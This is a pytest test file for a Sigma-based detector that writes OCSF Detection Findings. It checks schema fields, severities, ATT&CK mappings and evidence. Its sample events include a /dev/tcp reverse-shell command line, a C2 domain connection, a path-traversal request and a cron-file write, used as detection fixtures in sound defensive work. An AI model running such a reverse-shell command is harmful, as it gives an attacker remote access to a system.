"""OCSF Detection Findings: required attributes, constraints and captions, and no attribute that the class does not have."""

from __future__ import annotations

import io
import json
from typing import Any

import pytest

from sigma.pyeval.findings import Finding
from sigma.pyeval.reports.ocsf import OCSF_VERSION, OcsfWriter, ocsf_finding
from sigma.pyeval.rules import Match

from . import ocsf_schema
from .samples import FILE, FINDINGS, HOSTILE, LOGIN, NET, NOW, SHELL, WEB, extreme_events, hostile_finding

INTEGERS = {"integer", "long", "timestamp", "port"}


def misfits(value: dict[str, Any], name: str = "detection_finding") -> list[str]:
    """Return what of an object is not as the schema says: unknown, of another type, missing."""
    attributes = ocsf_schema.OBJECTS[name]
    found = [f"{name}.{key} is missing" for key, kind in attributes.items() if kind.endswith("!") and key not in value]
    choice = ocsf_schema.AT_LEAST_ONE.get(name)
    if choice and not set(choice.split()) & value.keys():
        found.append(f"{name} has none of {choice}")
    for key, member in value.items():
        kind = attributes.get(key, "").removesuffix("!")
        if not kind or isinstance(member, list) != kind.endswith("[]"):
            found.append(f"{name}.{key}")
            continue
        for one in member if isinstance(member, list) else [member]:
            found += misfits_of_one(one, f"{name}.{key}", kind.removesuffix("[]"))
    return found


def misfits_of_one(value: Any, place: str, kind: str) -> list[str]:
    """Return what is wrong with a single value of a type."""
    if kind in ("json", "@object"):
        return []
    if kind.startswith("@"):
        return misfits(value, kind[1:]) if isinstance(value, dict) else [place]
    captions = ocsf_schema.ENUMS.get(place)
    if captions and value not in captions:
        return [f"{place} is {value}"]
    wanted: type = int if kind in INTEGERS else bool if kind == "boolean" else str
    return [] if type(value) is wanted else [place]


@pytest.mark.parametrize("finding", FINDINGS, ids=lambda finding: finding.match.rule.title)
def test_every_attribute_is_one_of_the_class(finding: Finding) -> None:
    """Names, types, arrays, required attributes, at-least-one constraints and enumerations of the version written."""
    found = ocsf_finding(finding, NOW)
    assert OCSF_VERSION == ocsf_schema.VERSION == found["metadata"]["version"]
    assert misfits(found) == []


def test_the_check_itself_finds_misfits() -> None:
    """Invented, missing, wrongly typed, wrongly chosen."""
    found = ocsf_finding(SHELL, NOW)
    broken = {key: value for key, value in found.items() if key != "time"} | {
        "rule": "x", "severity_id": 7, "message": 5, "evidences": {}, "device": {"type_id": 0}, "finding_info": {"title": "x"},
    }  # fmt: skip
    assert set(misfits(broken)) == {
        "detection_finding.time is missing", "detection_finding.rule", "detection_finding.severity_id is 7",
        "detection_finding.message", "detection_finding.evidences", "finding_info.uid is missing",
        "device has none of " + ocsf_schema.AT_LEAST_ONE["device"],
    }  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:30])
def test_hostile_text_misfits_nowhere(text: str) -> None:
    """Text where a number or an address belongs is left out there; the event holds it all the same."""
    found = ocsf_finding(hostile_finding(text), NOW)
    assert misfits(found) == []
    assert text in found["evidences"][0]["data"]


def test_extreme_events_misfit_nowhere() -> None:
    """Numbers out of range, values of the wrong kind, depth and size."""
    for event in extreme_events():
        assert misfits(ocsf_finding(SHELL._replace(match=Match(SHELL.match.rule, event)), NOW)) == []


def test_captions_fit_their_ids() -> None:
    """activity, severity, status, type and observables say the same in words."""
    found = ocsf_finding(SHELL, NOW)
    for id_, caption in (("activity_id", "activity_name"), ("severity_id", "severity"), ("status_id", "status"), ("type_uid", "type_name"), ("category_uid", "category_name"), ("class_uid", "class_name")):  # fmt: skip
        assert ocsf_schema.ENUMS[f"detection_finding.{id_}"][found[id_]] == found[caption]
    for finding in FINDINGS:
        for observable in ocsf_finding(finding, NOW)["observables"]:
            assert ocsf_schema.ENUMS["observable.type_id"][observable["type_id"]] == observable["type"]


@pytest.mark.parametrize(
    ("level", "severity_id"),
    [("informational", 1), ("low", 2), ("medium", 3), ("high", 4), ("critical", 5), (None, 0)],
)
def test_levels_are_severities(level: str | None, severity_id: int) -> None:
    """A rule without level is Unknown."""
    from dataclasses import replace

    match = Match(replace(SHELL.match.rule, level=level), SHELL.match.event)
    found = ocsf_finding(SHELL._replace(match=match), NOW)
    assert found["severity_id"] == severity_id
    assert found["severity"] == ocsf_schema.ENUMS["detection_finding.severity_id"][severity_id]


def test_a_finding_tells_the_rule_the_times_and_the_event() -> None:
    """The finding's own time is that of writing; the event's is in start_time and finding_info."""
    found = ocsf_finding(SHELL, NOW)
    assert (found["class_uid"], found["category_uid"], found["type_uid"]) == (2004, 2, 200401)
    assert found["time"] == 1_795_262_400_000
    assert found["start_time"] == found["finding_info"]["first_seen_time"] == 1_795_200_001_000
    assert found["finding_info"]["analytic"]["uid"] == SHELL.match.rule.id
    assert found["finding_info"]["attacks"] == [
        {
            "tactic": {"name": "Execution", "uid": "TA0002", "src_url": "https://attack.mitre.org/tactics/TA0002/"},
            "technique": {"uid": "T1059", "src_url": "https://attack.mitre.org/techniques/T1059/"},
            "sub_technique": {"uid": "T1059.004", "src_url": "https://attack.mitre.org/techniques/T1059/004/"},
        }
    ]
    assert found["evidences"][0]["data"] == SHELL.match.event
    assert json.loads(found["raw_data"]) == SHELL.match.event
    assert found["unmapped"]["serial"] == "77"
    assert "start_time" not in ocsf_finding(FILE, NOW)


def test_several_tactics_stand_beside_the_techniques() -> None:
    """Tags do not say which technique belongs to which tactic, so none is made up."""
    attacks = ocsf_finding(LOGIN, NOW)["finding_info"]["attacks"]
    assert [sorted(attack) for attack in attacks] == [["tactic"], ["tactic"], ["technique"]]


def test_evidence_is_what_the_event_is_about() -> None:
    """Process with parent, file, connection, request; nothing where the event says nothing."""
    process = ocsf_finding(SHELL, NOW)["evidences"][0]["process"]
    assert process["cmd_line"] == "bash -c cat </dev/tcp/203.0.113.7/4444"
    assert process["parent_process"]["pid"] == 4090
    assert process["file"] == {"path": "/usr/bin/bash", "name": "bash", "type_id": 1, "type": "Regular File"}
    connection = ocsf_finding(NET, NOW)["evidences"][0]
    assert connection["dst_endpoint"] == {"ip": "203.0.113.7", "port": 443, "domain": "c2.example.org"}
    assert connection["connection_info"] == {"direction_id": 2, "direction": "Outbound", "protocol_name": "tcp"}
    request = ocsf_finding(WEB, NOW)["evidences"][0]
    assert request["http_request"]["url"]["url_string"] == "/a?f=../x"
    assert request["http_response"] == {"code": 404, "body_length": 12}
    assert "process" not in request
    assert "process" not in ocsf_finding(FILE, NOW)["evidences"][0]  # an executable, but no process id
    assert {"/usr/bin/tee", "/etc/cron.d/x"} <= {row["value"] for row in ocsf_finding(FILE, NOW)["observables"]}


def test_the_same_finding_has_the_same_uid() -> None:
    """So that a second run over the same log adds nothing; another line, rule or event is another finding."""
    uid = ocsf_finding(SHELL, NOW)["finding_info"]["uid"]
    assert ocsf_finding(SHELL, NOW.replace(year=2027))["finding_info"]["uid"] == uid
    others = [
        SHELL._replace(line=2),
        SHELL._replace(path="y"),
        SHELL._replace(match=Match(LOGIN.match.rule, SHELL.match.event)),
    ]
    assert uid not in {ocsf_finding(other, NOW)["finding_info"]["uid"] for other in others}


def test_findings_are_lines() -> None:
    """One object a line, in order."""
    stream = io.BytesIO()
    writer = OcsfWriter(stream, lambda: NOW)
    for finding in FINDINGS:
        writer.write(finding)
    writer.close()
    assert [json.loads(line) for line in stream.getvalue().splitlines()] == [
        ocsf_finding(finding, NOW) for finding in FINDINGS
    ]
